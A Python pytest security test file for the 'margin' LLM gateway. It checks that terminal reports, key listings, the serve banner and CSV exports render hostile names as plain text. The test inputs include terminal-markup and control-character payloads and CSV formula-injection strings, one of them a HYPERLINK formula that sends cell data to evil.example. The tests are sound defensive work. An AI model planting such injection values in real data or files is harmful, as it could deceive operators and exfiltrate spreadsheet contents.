"""Values callers and admin keys choose (tags, key names, teams) come back out of `margin report`, `margin keys
list` and the FOCUS export: against a running gateway, keys made over the admin API and requests tagged over
HTTP, then the operator's commands. Each failed before: rich read a team as markup (`[link=…]` became a
hyperlink to the attacker's site, `[/x]` a traceback), C1 and bidi controls reached the terminal, and CSV cells
such as `=HYPERLINK(…)` or `+cmd` were formulas to the spreadsheet that opened them. The operator's own config
names (models, aliases, backends) in `margin serve`'s start-up lines likewise: `[/x]` stopped the gateway."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tests.security.conftest import FAKE_CONFIG, Served, ServeFactory

LINK = "[link=https://evil.example/]ops[/link]"
TEAM = "[/x]\x9b2J\u202eevil"  # an unmatched closing tag, an 8-bit CSI, a right-to-left override
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
CHAT = {"model": "fake-chat", "messages": [{"role": "user", "content": "hi"}]}


def _on_a_terminal(gw: Served, *args: str) -> subprocess.CompletedProcess[str]:
    """`margin <args>` as a colour terminal would run it (rich emits styles and hyperlinks), 300 columns wide."""
    env = {**os.environ, "FORCE_COLOR": "1", "COLUMNS": "300", "TERM": "xterm-256color"}
    command = [sys.executable, "-m", "margin", *args, "--config", str(gw.config), "--db", str(gw.db)]
    return subprocess.run(command, capture_output=True, text=True, check=False, timeout=120, env=env)


def _hostile_keys(gw: Served) -> None:
    """Two keys made by an admin key over HTTP, each then used once (so their teams and tags have rows)."""
    with gw.client(gw.keys["admin"]) as admin:
        made = [
            admin.post("/admin/keys", json={"name": LINK, "team": TEAM, "tags": {"customer": "[red]acme"}}),
            admin.post("/admin/keys", json={"name": "sheets", "team": FORMULA, "tags": {"customer": "@SUM"}}),
        ]
    for response in made:
        assert response.status_code == 201, response.text
        with gw.client(response.json()["key"]) as client:
            assert client.post("/v1/chat/completions", json=CHAT, headers={"x-margin-tags": "feature=+cmd"}).is_success
    assert _wait_rows(gw, 2)


def _wait_rows(gw: Served, count: int) -> bool:
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        if len(gw.rows()) >= count:
            return True
        time.sleep(0.05)
    return False


def _shown_literally(output: str) -> None:
    assert "Traceback" not in output and "MarkupError" not in output
    assert "\x1b]8;" not in output and "evil.example/\x1b" not in output  # no OSC 8 hyperlink was made
    assert "\x9b" not in output and "\u202e" not in output  # escaped: \x9b, \u202e
    assert "\\x9b2J\\u202eevil" in output


def test_report_and_keys_list_print_names_as_text(served: ServeFactory) -> None:
    with served({"tags": {"header_keys": ["feature"]}}, keys={"admin": ["--admin"]}) as gw:
        _hostile_keys(gw)
        report = _on_a_terminal(gw, "report", "--by", "team")
        assert report.returncode == 0, report.stderr
        _shown_literally(report.stdout)
        assert "[/x]" in report.stdout
        listing = _on_a_terminal(gw, "keys", "list")
        assert listing.returncode == 0, listing.stderr
        _shown_literally(listing.stdout)
        assert LINK in listing.stdout and "[red]acme" in listing.stdout
        by_customer = _on_a_terminal(gw, "report", "--view", "carbon", "--by", "customer")
        assert by_customer.returncode == 0 and "[red]acme" in by_customer.stdout, by_customer.stderr


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formulas(cells: list[str]) -> None:
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only numbers may start so


def test_csv_and_focus_cells_are_never_formulas(served: ServeFactory, tmp_path: Path) -> None:
    with served({"tags": {"header_keys": ["feature"]}}, keys={"admin": ["--admin"]}) as gw:
        _hostile_keys(gw)
        by_team = gw.cli("report", "--by", "team", "--format", "csv")
        by_feature = gw.cli("report", "--by", "feature", "--format", "csv")
        by_customer = gw.cli("report", "--view", "carbon", "--by", "customer", "--format", "csv")
        out = tmp_path / "focus.csv"
        period = datetime.now(UTC).strftime("%Y-%m")
        focus = gw.cli("export", "focus", "--period", period, "--out", str(out), "--tags", "customer")
        assert all(r.returncode == 0 for r in (by_team, by_feature, by_customer, focus)), focus.stderr
    for text in (by_team.stdout, by_feature.stdout, by_customer.stdout, out.read_text()):
        _no_formulas(_cells(text))
    assert "'" + FORMULA in _cells(by_team.stdout)
    assert "'+cmd" in _cells(by_feature.stdout)
    assert "'@SUM" in _cells(by_customer.stdout)
    focus_cells = _cells(out.read_text())
    assert focus_cells.count("'" + FORMULA) == 2  # SubAccountId, SubAccountName
    assert any('"customer":"@SUM"' in cell for cell in focus_cells)  # Tags: a JSON object, as it was


def test_serve_banner_prints_config_names_as_text(
    served: ServeFactory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`margin serve` on a colour terminal (rich emits styles and hyperlinks) with hostile names in its config:
    it starts, and its banner shows each name as the text it is."""
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "300")
    backend = "[/b]fake"
    config = {
        "backends": {backend: FAKE_CONFIG["backends"]["fake"]},
        "models": {LINK: {"backend": backend}, "fake-chat": {"backend": backend, "aliases": [TEAM]}},
    }
    with served(config) as gw, gw.client() as client:
        assert client.post("/v1/chat/completions", json={**CHAT, "model": TEAM}).is_success
    banner = (tmp_path / "serve.log").read_text()
    _shown_literally(banner)
    assert f"model {LINK} → backend {backend} [fake]" in banner, banner
    assert "\x1b[1m" in banner  # rich did style the output (so it would have made a link)
